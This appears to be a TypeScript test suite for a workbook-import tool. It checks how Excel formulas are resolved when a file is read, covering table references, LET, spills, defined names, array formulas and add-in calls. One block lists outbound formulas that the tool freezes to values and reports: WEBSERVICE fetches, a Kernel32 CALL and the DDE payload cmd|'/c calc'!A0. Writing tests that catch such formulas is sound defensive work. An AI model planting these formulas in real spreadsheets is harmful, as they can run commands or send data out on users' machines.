// Formulas to the letter as Excel stores them in a file, read through the gate and handed over.
import { strFromU8, unzipSync } from 'fflate';
import { beforeAll, describe, expect, it } from 'vitest';
import type { Handover } from '../../src/handover/handover';
import { sourceOfFile } from '../../src/handover/read/from-file';
import { readWorkbook } from '../../src/hosts/xlsx/read';
import { writeWorkbook } from '../../src/hosts/xlsx/write';
import { excelFile, type StoredCell, type StoredTable, type StoredWorkbook } from '../kit/excel-file';
import { workedOut } from '../kit/worked-out';
import { cellAt, handed, told } from './kit';

/** What leads out of the workbook is a value; all else that cannot be followed stays the user's. */
function expectStaysOrNot(copy: Handover, at: string, why: string): void {
  const leadsOut = /another workbook|fetches|leads to an address/.test(why);
  expect(copy.keptFormulas.has(`S!${at}`)).toBe(!leadsOut);
  expect(told(copy.findings)).toContain(
    leadsOut ? `value, not live S!${at}: ${why}` : `not worked out here S!${at}: ${why}: the formula stays as it is`,
  );
}

const handedFile = async (stored: StoredWorkbook): Promise<Handover> => handed(sourceOfFile('File', await readWorkbook(excelFile(stored))));

const f = (formula: string, v: string | number, array?: string, isDynamic?: true): StoredCell => ({
  f: formula,
  v,
  ...(array !== undefined && { array }),
  ...(isDynamic && { isDynamic }),
});

/** The value of a cell once other values are typed into the copy. */
function changed(copy: Handover, sheet: string, at: string, typed: Readonly<Record<string, number>>): unknown {
  const sheets = copy.plan.sheets.map(plan =>
    plan.name === sheet
      ? { ...plan, cells: plan.cells.map(cell => (cell.at in typed ? { ...cell, value: typed[cell.at] as number } : cell)) }
      : plan,
  );
  return workedOut(sheets, sheet).values.get(`${sheet}!${at}`);
}

const ODD = "# of, [x] it's";
const BOSSES: StoredTable = { name: 'Bosses', sheet: 'S', ref: 'A1:D5', columns: ['hole', 'wall', 'OD', ODD], totalsRowCount: 1 };
const BARE: StoredTable = { name: 'Bare', sheet: 'S', ref: 'H1:H2', columns: ['x\ny'], headerRowCount: 0 };
const TABLE: Readonly<Record<string, StoredCell>> = {
  A1: 'hole',
  B1: 'wall',
  C1: 'OD',
  D1: ODD,
  A2: 2.4,
  B2: 1.2,
  A3: 2.6,
  B3: 1.3,
  A4: 3,
  B4: 1.5,
  C2: f('_xldudf_ENCL_BOSS_OD(Bosses[[#This Row],[hole]],Bosses[[#This Row],[wall]])', 4.8),
  C3: f('_xldudf_ENCL_BOSS_OD(Bosses[[#This Row],[hole]],Bosses[[#This Row],[wall]])', 5.2),
  C4: f('_xldudf_ENCL_BOSS_OD(Bosses[[#This Row],[hole]],Bosses[[#This Row],[wall]])', 6),
  D2: 1,
  D3: 2,
  D4: 3,
  A5: 'largest',
  C5: f('MAX(Bosses[OD])', 6),
  H1: 11,
  H2: 22,
};

describe('a table', () => {
  // what a reference stands for: typed from what LibreOffice 7.4 makes of each, in the cell named first
  const REFERENCES: readonly (readonly [at: string, stored: string, cells: string])[] = [
    ['J1', 'SUM(Bosses[wall])', 'SUM($B$2:$B$4)'],
    ['J2', 'SUM(Bosses[[#Totals],[OD]])', 'SUM($C$5)'],
    ['J3', 'COUNTA(Bosses[[#Headers],[hole]:[OD]])', 'COUNTA($A$1:$C$1)'],
    ['J4', 'SUM(Bosses[[hole]:[wall]])', 'SUM($A$2:$B$4)'],
    ['J5', 'SUM(Bosses[[#Data],[#Totals],[OD]])', 'SUM($C$2:$C$5)'],
    ['J6', 'COUNTA(Bosses[[#Headers],[#Data],[hole]])', 'COUNTA($A$1:$A$4)'],
    ['J7', 'SUM(Bare[x\ny])', 'SUM($H$1:$H$2)'],
    ['K3', 'SUM(Bosses[[#This Row],[hole]:[wall]])', 'SUM($A3:$B3)'],
    ['K4', "Bosses[[#This Row],['# of, '[x'] it''s]]", '$D4'],
    ['K2', 'Bosses[[#This Row],[hole]]*10', '$A2*10'],
    // by the rule of the format: all of a table is its ref, its bare name its data
    ['J8', 'ROWS(Bosses[#All])', 'ROWS($A$1:$D$5)'],
    ['J9', 'ROWS(Bosses)', 'ROWS($A$2:$D$4)'],
    ['J10', 'bosses[[#Totals],[od]]^2', '$C$5^2'],
  ];
  const LOST: readonly (readonly [at: string, stored: string, why: string])[] = [
    ['L1', 'Bosses[[#This Row],[hole]]', 'it points at rows that the table has not: Bosses[[#This Row],[hole]]'],
    ['L2', 'SUM(Bare[#Headers])', 'it points at rows that the table has not: Bare[#Headers]'],
    ['L3', 'SUM(Bosses[depth])', 'it points at a column that the table has not: Bosses[depth]'],
    ['L4', 'SUM(Nuts[m])', 'it points at a table that is not here: Nuts[m]'],
    ['L5', 'SUM([1]!Nuts[m])', 'it points at another workbook: [1]!Nuts[m]'],
  ];
  let copy: Handover;
  beforeAll(async () => {
    const cells = { ...TABLE, ...Object.fromEntries([...REFERENCES, ...LOST].map(([at, stored]) => [at, f(stored, 7)] as const)) };
    copy = await handedFile({
      sheets: {
        S: cells,
        'Other one': { B2: f('_xldudf_ENCL_BOSS_OD(Bosses[[#Totals],[OD]],1)', 8), B3: f('Bosses[[#This Row],[hole]]', 1) },
      },
      tables: [BOSSES, BARE],
    });
  });

  it('has its calculated column live, row by row', () => {
    expect(['C2', 'C3', 'C4'].map(at => cellAt(copy, 'S', at).value)).toEqual([4.8, 5.2, 6]);
    // 3.2 + 2 × 1.3
    expect(changed(copy, 'S', 'C3', { A3: 3.2 })).toBeCloseTo(5.8, 12);
    expect(changed(copy, 'S', 'C4', { A3: 3.2 })).toBe(6);
    expect(changed(copy, 'S', 'C5', { A3: 9 })).toBeCloseTo(11.6, 12);
    expect(told(copy.findings).filter(line => line.startsWith('live S!'))).toHaveLength(3);
  });

  it.each(REFERENCES)('is followed by its cells: %s %s', (at, _, cells) => {
    expect(cellAt(copy, 'S', at).formula).toBe(`=${cells}`);
  });

  it('is followed from another sheet', () => {
    expect(changed(copy, 'Other one', 'B2', {})).toBe(8);
    expect(told(copy.findings)).toContain('live Other one!B2: BOSS.OD');
  });

  it.each(LOST)('is told where it has not what is asked for: %s %s', (at, _, why) => {
    expect(cellAt(copy, 'S', at)).toMatchObject({ value: 7 });
    expect(cellAt(copy, 'S', at).formula).toBeUndefined();
    expectStaysOrNot(copy, at, why);
  });

  it('has no row beside a cell of another sheet', () => {
    expect(cellAt(copy, 'Other one', 'B3').formula).toBeUndefined();
  });
});

describe('LET', () => {
  const LETS: readonly (readonly [stored: string, settled: string])[] = [
    ['_xlfn.LET(_xlpm.x,A1+1,_xlpm.x*_xlpm.x)', '(A1+1)*(A1+1)'],
    ['1+_xlfn.LET(_xlpm.x,A1,_xlpm.y,_xlpm.x+1,_xlpm.y)^2', '1+(A1+1)^2'],
    ['_xlfn.LET(_xlpm.x,1,_xlfn.LET(_xlpm.x,2,_xlpm.x)+_xlpm.x)', '2+1'],
    ['SUM(_xlfn.LET(_xlpm.r,A1:A2,_xlpm.r))', 'SUM(A1:A2)'],
    ['_xlfn.LET(_xlpm.x,"_xlpm.x, y",_xlpm.x&"_xlpm.x")', '"_xlpm.x, y"&"_xlpm.x"'],
    ['-_xlfn.LET(_xlpm.x,-A1,_xlpm.x)%', '-(-A1)%'],
    ['_xlfn.LET(_xlpm.once,RAND(),_xlpm.once)', 'RAND()'],
    ['_xlfn.LET(_xlpm.pilot,A1,_xlpm.pilot)+pilot', 'A1+S!$A$2'],
  ];
  const KEPT = [
    '_xlfn.LET(_xlpm.x,RAND(),_xlpm.x-_xlpm.x)',
    '_xlfn.LET(_xlpm.f,_xlfn.LAMBDA(_xlpm.a,_xlpm.a+1),_xlpm.f(A1))',
    '_xlfn.LAMBDA(_xlpm.a,_xlpm.a+1)(A1)',
  ];
  let copy: Handover;
  beforeAll(async () => {
    const formulas = [...LETS.map(([stored]) => stored), ...KEPT];
    copy = await handedFile({
      sheets: {
        S: {
          A1: 2.4,
          A2: 1.2,
          ...Object.fromEntries(formulas.map((stored, i) => [`B${i + 1}`, f(stored, 7)] as const)),
          C1: f('_xlfn.LET(_xlpm.h,A1,_xlpm.w,A2,_xldudf_ENCL_BOSS_OD(_xlpm.h,_xlpm.w))', 4.8, 'C1', true),
          C2: f('_xlfn.LET(_xlpm.d,_xldudf_ENCL_BOSS_OD(A1,A2),ROUND(_xlpm.d*2,1)+_xlpm.d)', 14.4, 'C2', true),
          // 17 doublings of three characters
          C3: f(
            `_xlfn.LET(${Array.from({ length: 17 }, (_, i) => `_xlpm.a${i}_,${i === 0 ? 'A1' : `_xlpm.a${i - 1}_&_xlpm.a${i - 1}_`}`).join(',')},_xlpm.a16_)`,
            'x',
          ),
        },
      },
      names: { pilot: 'S!$A$2' },
    });
  });

  it.each(LETS.map(([stored, settled], i) => [`B${i + 1}`, stored, settled]))('is settled: %s %s', (at, _, settled) => {
    expect(cellAt(copy, 'S', at).formula).toBe(`=${settled}`);
  });

  it.each(KEPT.map((stored, i) => [`B${LETS.length + i + 1}`, stored]))(
    'stays as it is stored where a name is more: %s %s',
    (at, stored) => {
      expect(cellAt(copy, 'S', at)).toMatchObject({ formula: `=${stored}`, value: 7 });
      expect(told(copy.findings)).toContain(
        `not in every program S!${at}: ${/RAND/.test(stored) ? 'LET' : /LET/.test(stored) ? 'LET' : 'LAMBDA'} stays as typed`,
      );
    },
  );

  it('around our calls and inside them is live', () => {
    expect(changed(copy, 'S', 'C1', { A1: 3 })).toBeCloseTo(5.4, 12);
    // 5.4 × 2 + 5.4
    expect(changed(copy, 'S', 'C2', { A1: 3 })).toBeCloseTo(16.2, 12);
    expect(copy).toMatchObject({ live: 2, asValues: 0 });
  });

  it('that doubles without end is told', () => {
    expect(told(copy.findings)).toContain(
      'not worked out here S!C3: it grows to more than 8192 characters without its names: the formula stays as it is',
    );
  });
});

describe('what spills', () => {
  let copy: Handover;
  beforeAll(async () => {
    copy = await handedFile({
      sheets: {
        S: {
          A1: 2.4,
          A2: 2.6,
          A3: 3,
          A8: f('_xlfn._xlws.SORT(A1:A3)', 2.4, 'A8:A10', true),
          A9: 2.6,
          A10: 3,
          B8: f('SUM(_xlfn.ANCHORARRAY(A8))', 8),
          B9: f('_xlfn.SINGLE(_xlfn.ANCHORARRAY(A8))+1', 3.6),
          B1: f('_xldudf_ENCL_BOSS_OD(MAX(_xlfn.ANCHORARRAY(A8)),1)', 5, 'B1', true),
          C2: f('_xlfn.SINGLE(A1:A3)*2', 5.2),
          C3: f('_xlfn.SINGLE($A:$A)*2', 6),
          C5: f('_xlfn.SINGLE(A1:A3)*2', '#VALUE!'),
          C6: f('SUM(_xlfn.SINGLE(A1),_xlfn.SINGLE(INDEX(A1:A3,2)))', 5),
          D1: f('_xldudf_ENCL_BOSS_OD(_xlfn.SINGLE(A1:A3),1)', 4.4, 'D1', true),
          D2: f('_xldudf_ENCL_BOSS_OD(_xlfn.SINGLE(list),1)', 4.6, 'D2', true),
          A20: f('_xldudf_ENCL_STACK_TABLE(A24:A25,B24:B25,C24:C25)', 'layer', 'A20:F23', true),
          A24: 'seat',
          A25: 'board',
          B24: 2.5,
          B25: 1.6,
          C24: 0.1,
          C25: 0.16,
          J1: f('ROWS(_xlfn.ANCHORARRAY(A20))', 4),
        },
      },
      names: { list: "'S'!$A$1:$A$3" },
    });
  });

  it('is an area where the file says which', () => {
    expect(cellAt(copy, 'S', 'B8')).toMatchObject({ formula: '=SUM(A8:A10)', value: 8 });
    expect(cellAt(copy, 'S', 'B9')).toMatchObject({ formula: '=A9+1', value: 3.6 });
    expect(told(copy.findings)).toContain('live S!B1: BOSS.OD');
  });

  it('and one of its cells where one is asked for', () => {
    expect(['C2', 'C3', 'C6'].map(at => cellAt(copy, 'S', at).formula?.replaceAll('$', ''))).toEqual([
      '=A2*2',
      '=A3*2',
      '=SUM(A1,INDEX(A1:A3,2))',
    ]);
    expect(cellAt(copy, 'S', 'C5')).toMatchObject({ value: '#VALUE!' });
    expect(cellAt(copy, 'S', 'C5').formula).toBeUndefined();
    expect(changed(copy, 'S', 'D1', { A1: 3 })).toBe(5);
    expect(changed(copy, 'S', 'D2', { A2: 3 })).toBe(5);
  });
});

describe('a name', () => {
  // LibreOffice 7.4 reads the same names from A1 too (base-cell-address="$S.$A$1")
  const NAMES: readonly (readonly [at: string, stored: string, settled: string])[] = [
    ['B5', 'fixed', 'S!$A$1'],
    ['C7', 'beside*2', 'S!B7*2'],
    ['D7', 'in_row*2', 'S!$A7*2'],
    ['B7', 'local', 'S!$A$2'],
    ['B8', "'T t'!local", "'T t'!$A$2"],
    ['B21', 'S!local', 'S!$A$2'],
    ['B9', 'draft*2', '1.5*2'],
    ['B10', 'less^2', '(-1.5)^2'],
    ['B11', 'word&"x"', '"a ""b"""&"x"'],
    ['B12', 'both*2', '(S!$A$1+S!$A$2)*2'],
    ['B13', 'twice', '(S!$A$1+S!$A$2)+1.5'],
    ['B14', 'SUM(list)', "SUM('T t'!$A$1:$A$3)"],
    ['B15', 'INDEX(pair,2)', 'INDEX({1;2},2)'],
    ['B16', 'of_table', 'SUM($B$2:$B$4)'],
    ['B17', '[0]!fixed', 'S!$A$1'],
    ['B18', 'spilled', 'SUM(S!E1:E2)'],
    ['B19', 'in_let*2', '(S!$A$1+1)*2'],
    ['B20', 'FIXED', 'S!$A$1'],
  ];
  const LOST: readonly (readonly [at: string, stored: string, why: string])[] = [
    ['G1', 'gone', 'it uses the name gone, which stands for no fixed cells here'],
    ['G2', 'moving', 'it uses the name moving, which stands for no fixed cells here'],
    ['G3', 'two', 'it uses the name two, which stands for no fixed cells here'],
    ['G4', 'round', 'it uses the name round, which leads back to itself'],
    ['G5', 'elsewhere', 'it points at another workbook: [1]S!$A$1'],
    ['G6', '[1]!theirs', 'it points at another workbook: [1]!theirs'],
    ['G7', 'fetched', 'WEBSERVICE fetches or runs something'],
    ['G8', 'several', 'it points at the same cells of several sheets: S:T!$A$1'],
    ['G10', 'Nowhere!fixed', 'it points at a sheet that is not here: Nowhere'],
    ['G9', 'n_0', 'it is nested more than 200 times'],
  ];
  let copy: Handover;
  beforeAll(async () => {
    const chain = Object.fromEntries(Array.from({ length: 5000 }, (_, i) => [`n_${i}`, `n_${i + 1}+1`] as const));
    copy = await handedFile({
      sheets: {
        S: {
          A1: 2.4,
          A2: 1.2,
          E1: f('S!A1:A2*2', 4.8, 'E1:E2', true),
          E2: 2.4,
          C1: f('_xldudf_ENCL_BOSS_OD(fixed,draft)', 5.4, 'C1', true),
          C2: f('od', 4.8),
          ...Object.fromEntries([...NAMES, ...LOST].map(([at, stored]) => [at, f(stored, 7)] as const)),
        },
        'T t': { A1: 1, A2: 2, A3: 3, B1: 'v', B2: 1, B3: 2, B4: 3 },
      },
      tables: [{ name: 'V', sheet: 'S', ref: 'B1:B4', columns: ['v'] }],
      names: {
        fixed: 'S!$A$1',
        beside: 'S!XFD1',
        in_row: 'S!$A1',
        local: 'S!$A$2',
        'T t!local': "'T t'!$A$2",
        draft: '1.5',
        less: '-1.5',
        word: '"a ""b"""',
        both: 'S!$A$1+S!$A$2',
        twice: 'both+draft',
        list: "'T t'!$A$1:$A$3",
        pair: '{1;2}',
        of_table: 'SUM(V[v])',
        spilled: 'SUM(_xlfn.ANCHORARRAY(S!$E$1))',
        in_let: '_xlfn.LET(_xlpm.x,S!$A$1,_xlpm.x+1)',
        od: '_xldudf_ENCL_BOSS_OD(S!$A$1,S!$A$2)',
        gone: 'S!#REF!',
        moving: 'OFFSET(S!$A$1,0,0,3)',
        two: 'S!$A$1,S!$A$2',
        round: 'round+1',
        elsewhere: '[1]S!$A$1',
        fetched: '_xlfn.WEBSERVICE("http://x.invalid")',
        several: 'S:T!$A$1',
        ...chain,
      },
    });
  });

  it.each(NAMES)('is put in place: %s %s', (at, _, settled) => {
    expect(cellAt(copy, 'S', at).formula).toBe(`=${settled}`);
  });

  it.each(LOST)('is told where it cannot be: %s %s', (at, _, why) => {
    expect(cellAt(copy, 'S', at)).toMatchObject({ value: 7 });
    expect(cellAt(copy, 'S', at).formula).toBeUndefined();
    expectStaysOrNot(copy, at, why);
  });

  it('for a size, a draft or a call of ours is live', () => {
    // 2.4 + 2 × 1.5 and 3 + 2 × 1.2
    expect(cellAt(copy, 'S', 'C1').value).toBeCloseTo(5.4, 12);
    expect(changed(copy, 'S', 'C1', { A1: 3 })).toBeCloseTo(6, 12);
    expect(changed(copy, 'S', 'C2', { A1: 3 })).toBeCloseTo(5.4, 12);
    expect(copy.live).toBe(2);
  });
});

describe('what leads out', () => {
  const FETCH = [
    '_xlfn.WEBSERVICE("http://x.invalid/"&A1)',
    'WEBSERVICE("http://x.invalid")',
    '_xlfn.IMAGE("http://x.invalid/a.png")',
    '_xlfn.STOCKHISTORY("X",1)',
    '_xlfn._xlws.PY(0,0,A1)',
    '_xlws.PY(0,0)',
    '_xlfn.TRANSLATE("a")',
    '_xlfn.IMPORTCSV("http://x.invalid")',
    'HYPERLINK("http://x.invalid","a")',
    'HYPERLINK("#"&A1,"a")',
    'HYPERLINK(A1)',
    'RTD("a",,"b")',
    'CUBEVALUE("a","b")',
    'CALL("Kernel32","Beep","JJJ",1,1)',
    'REGISTER.ID("a","b")',
    'IFERROR(_xlfn.WEBSERVICE("http://x.invalid"),0)',
    '_xlfn.LET(_xlpm.x,_xlfn.WEBSERVICE("http://x.invalid"),_xlpm.x)',
    '_xlfn.LET(_xlpm.f,_xlfn.LAMBDA(_xlpm.u,_xlfn.WEBSERVICE(_xlpm.u)),_xlpm.f("http://x.invalid"))',
    '_xlfn.SINGLE(_xlfn.WEBSERVICE("http://x.invalid"))',
    '_xldudf_ENCL_BOSS_OD(_xlfn.WEBSERVICE("http://x.invalid"),1)',
    '[1]S!A1',
    "'[1]S s'!A1",
    '[1]!theirs+1',
    '_xldudf_ENCL_BOSS_OD([1]S!A1,1)',
    "cmd|'/c calc'!A0",
  ];
  let copy: Handover;
  beforeAll(async () => {
    copy = await handedFile({
      sheets: { S: { A1: 1, ...Object.fromEntries(FETCH.map((each, i) => [`B${i + 1}`, f(each, 7)] as const)) } },
    });
  });

  it.each(FETCH.map((stored, i) => [`B${i + 1}`, stored]))('stays behind: %s %s', (at, _) => {
    expect(cellAt(copy, 'S', at)).toMatchObject({ value: 7 });
    expect(cellAt(copy, 'S', at).formula).toBeUndefined();
    expect(told(copy.findings).filter(line => line.startsWith(`value, not live S!${at}: `))).toHaveLength(1);
  });

  it('but a link to a place in the workbook goes along', async () => {
    const inside = await handedFile({ sheets: { S: { A1: f('HYPERLINK("#S!B2","there")', 'there') } } });
    expect(cellAt(inside, 'S', 'A1').formula).toBe('=HYPERLINK("#S!B2","there")');
  });
});

describe('another add-in', () => {
  const OTHERS: readonly (readonly [stored: string, name: string])[] = [
    ['_xll.OTHER.FN(A1)', 'OTHER.FN'],
    ['_xldudf_ACME_PRICE(A1)', 'ACME_PRICE'],
    ['_xlfn._xldudf_ACME_PRICE(A1)*2', 'ACME_PRICE'],
    ['ROUND(_xldudf_ENCLOSE_IT(A1),1)', 'ENCLOSE_IT'],
    ['IF(A1=1,_xll.A(1),_xll.B(2))', 'A, B'],
  ];
  const TEXTS = ['"_xldudf_ is text"&A1', '"=_xll.OTHER.FN(A1)"', '"_xlfn.WEBSERVICE("&A1&")"', '"_xldudf_ENCL_BOSS_OD(1,2)"'];
  let copy: Handover;
  beforeAll(async () => {
    copy = await handedFile({
      sheets: {
        S: {
          A1: 1,
          ...Object.fromEntries([...OTHERS.map(([stored]) => stored), ...TEXTS].map((each, i) => [`B${i + 1}`, f(each, 7)] as const)),
          C1: f('_xldudf_ENCL_BOSS_OD(_xll.OTHER.FN(A1),1)', 9),
          C2: f('_xldudf_ENCL_BOSS_OD(B1,1)', 9),
        },
      },
    });
  });

  it.each(OTHERS.map(([stored, name], i) => [`B${i + 1}`, stored, name]))('is left as it is, and told: %s %s', (at, stored, name) => {
    expect(cellAt(copy, 'S', at)).toMatchObject({ formula: `=${stored}`, value: 7 });
    expect(told(copy.findings).filter(line => line.startsWith(`another add-in S!${at}: ${name}: stays as it is`))).toHaveLength(1);
  });

  it('is counted', () => {
    expect(copy.findings.filter(({ what }) => what === 'another add-in')).toHaveLength(OTHERS.length);
    expect(copy).toMatchObject({ live: 1, asValues: 1 });
  });

  it.each(TEXTS.map((stored, i) => [`B${OTHERS.length + i + 1}`, stored]))('is no text that looks so: %s %s', (at, stored) => {
    expect(cellAt(copy, 'S', at).formula).toBe(`=${stored}`);
    expect(told(copy.findings).filter(line => line.includes(`S!${at}:`) && !line.startsWith('not worked out'))).toEqual([]);
  });

  it('in a call of ours keeps that a value; beside one it does not', () => {
    expect(cellAt(copy, 'S', 'C1')).toMatchObject({ value: 9 });
    expect(told(copy.findings)).toContain('value, not live S!C1: it calls another add-in');
    expect(told(copy.findings)).toContain('live S!C2: BOSS.OD');
  });

  it('is written again to the letter', async () => {
    const sheets = Object.values(unzipSync(await writeWorkbook(copy.plan))).map(part => strFromU8(part));
    for (const [stored] of OTHERS) expect(sheets.filter(xml => xml.includes(`<f>${stored}</f>`))).toHaveLength(1);
  });
});

describe('an array formula', () => {
  const ARRAYS: readonly (readonly [at: string, stored: string, ref: string, isDynamic: boolean])[] = [
    ['C1', 'SUM(A1:A5*B1:B5)', 'C1', false],
    ['C2', 'MAX(IF(A1:A5&gt;2.15,B1:B5))', 'C2', false],
    ['E1', 'A1:A5*2', 'E1:E5', false],
    ['F1', '_xlfn.UNIQUE(A1:A5)', 'F1:F5', true],
    ['G1', '_xlfn.XLOOKUP(2.2,A1:A5,B1:B5)', 'G1', true],
  ];
  let copy: Handover;
  let xml: string;
  beforeAll(async () => {
    const filled = (column: string, factor: number): [string, number][] =>
      [2, 2.1, 2.2, 2.3, 2.4].map((value, i) => [`${column}${i + 1}`, value * factor]);
    copy = await handedFile({
      sheets: {
        S: {
          ...Object.fromEntries([...filled('A', 1), ...filled('E', 2), ...filled('F', 1)]),
          ...Object.fromEntries([1, 1.1, 1.2, 1.3, 1.4].map((value, i) => [`B${i + 1}`, value])),
          ...Object.fromEntries(
            ARRAYS.map(([at, stored, ref, isDynamic], i) => [
              at,
              f(stored.replace('&gt;', '>'), [13.3, 1.4, 4, 2, 1.2][i] ?? 0, ref, isDynamic || undefined),
            ]),
          ),
          D1: f('SUM(E1:E5)', 22),
          D2: f('_xldudf_ENCL_BOSS_OD(E3,1)', 6.4, 'D2', true),
          D3: f('SUM(_xldudf_ENCL_BOSS_OD(2,1)*B1:B5)', 24, 'D3', true),
          D4: f('_xldudf_ENCL_BOSS_OD(2,1)*2', 8, 'D4', true),
        },
      },
    });
    xml = Object.values(unzipSync(await writeWorkbook(copy.plan)))
      .map(part => strFromU8(part))
      .join('\n');
  });

  it.each(ARRAYS)('keeps its braces in the file: %s %s', (at, stored, ref, isDynamic) => {
    const written = new RegExp(`<c r="${at}"([^>]*)><f t="array" ref="${ref}">([^<]*)</f>`).exec(xml);
    expect(written?.[2]).toBe(stored);
    expect(/ cm="1"/.test(written?.[1] ?? '')).toBe(isDynamic);
  });

  it('keeps what it fills, and what reads it is live', () => {
    expect(cellAt(copy, 'S', 'E4')).toMatchObject({ value: 4.6 });
    expect(cellAt(copy, 'S', 'D1')).toMatchObject({ formula: '=SUM(E1:E5)', value: 22 });
    expect(told(copy.findings)).toContain('live S!D2: BOSS.OD');
  });

  it('around a call of ours keeps them where it works on ranges', () => {
    expect(cellAt(copy, 'S', 'D3').array).toEqual({ range: 'D3', isDynamic: true });
    expect(cellAt(copy, 'S', 'D3')).toMatchObject({ value: 24 });
    expect(cellAt(copy, 'S', 'D4').array).toBeUndefined();
    expect(cellAt(copy, 'S', 'D4')).toMatchObject({ value: 8 });
    expect(told(copy.findings)).toEqual(
      expect.arrayContaining(['live S!D3: BOSS.OD inside another formula', 'live S!D4: BOSS.OD inside another formula']),
    );
  });
});
